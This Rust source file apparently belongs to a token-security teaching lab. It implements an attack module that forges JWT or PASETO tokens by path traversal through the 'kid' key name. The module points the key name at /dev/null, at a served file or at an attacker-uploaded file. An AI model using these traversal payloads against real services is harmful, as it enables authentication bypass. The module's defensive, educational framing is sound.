//! Path traversal through `kid`: the attacker points at a file whose content
//! she knows.
//!
//! The flawed assumption: a key's name names something in the folder of keys.
//! Nothing has authenticated it, and `../` leads out. RFC 8725 §3.10 demands
//! that a lookup by `kid` is safe from such input. Related: SmallRye JWT's
//! `AwsAlbKeyResolver` put `kid` into a URL (CVE-2026-81829); no CVE of a
//! library that reads files by `kid` is known to this lab.
//!
//! PASETO footers carry the same hazard (Payload-Processing, Key-ID Support).
//! One thing is better there: a key has a fixed length, so an empty file or a
//! text that the server serves is no key. A file that the attacker uploaded is.
//! The same holds of a JWE's content key. Of a session the id itself may be the
//! name of a file; a Biscuit names its root key by a number.

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::key_name::{self, Name};
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct KidPathTraversal;

static PROFILE: AttackProfile = AttackProfile {
    id: "kid-path-traversal",
    title: "Path traversal through the key's name",
    assumption: "A key's name can be used as a path, since it names a file in the folder of keys.",
    class: AttackClass::KeySource,
    given: &[],
    isolated: false,
    breaks: &[Weakness::KidAsPath],
    references: &[
        (
            "RFC 8725 §3.10",
            "An application that uses kid for a lookup makes sure that no injection is possible.",
        ),
        ("RFC 7515 §4.1.4", "kid is a hint of unspecified structure."),
        (
            "CVE-2026-81829",
            "SmallRye JWT's AwsAlbKeyResolver joins kid to a URL, which allows traversal: the nearest library CVE.",
        ),
        (
            "PASETO, Payload-Processing, Key-ID Support",
            "The footer may name a key, and is unauthenticated until the token is verified.",
        ),
    ],
    lesson: include_str!("../../lessons/kid-path-traversal.md"),
};

/// Enough to reach the root of any file system from a temporary folder.
const UP_TO_THE_ROOT: &str = "../../../../../../../../../../..";

impl Attack for KidPathTraversal {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let relative_null = format!("{UP_TO_THE_ROOT}/dev/null");
        if view.scheme() == Scheme::Biscuit {
            return Err(key_name::only_a_number(view, &relative_null, notes)?);
        }
        let [served, uploaded] = view.known_files()?;
        let served_kid = format!("../{}", served.path);
        let mut forgeries = Vec::new();
        for (variant, text, content) in [
            ("served-file", served_kid.as_str(), served.content.as_slice()),
            ("dev-null", relative_null.as_str(), b"".as_slice()),
            ("dev-null-absolute", "/dev/null", b"".as_slice()),
        ] {
            let name = Name {
                variant,
                text,
                says: "Names a path that leads out of the folder of keys, to a file that she knows.".into(),
            };
            forgeries.extend(key_name::by_secret(view, &name, content, notes)?);
        }
        if forgeries.is_empty() {
            notes.step(
                "Leaves /dev/null and the served files alone: what is stored here has a fixed form, and they have not.",
                "",
            );
        }
        let name = Name {
            variant: "uploaded-file",
            text: &format!("../{}", uploaded.path),
            says: "Uploads a picture for her profile that is no picture, and names the file it went to."
                .into(),
        };
        forgeries.push(key_name::by_own_key(view, &name, notes)?);
        Ok(forgeries)
    }
}
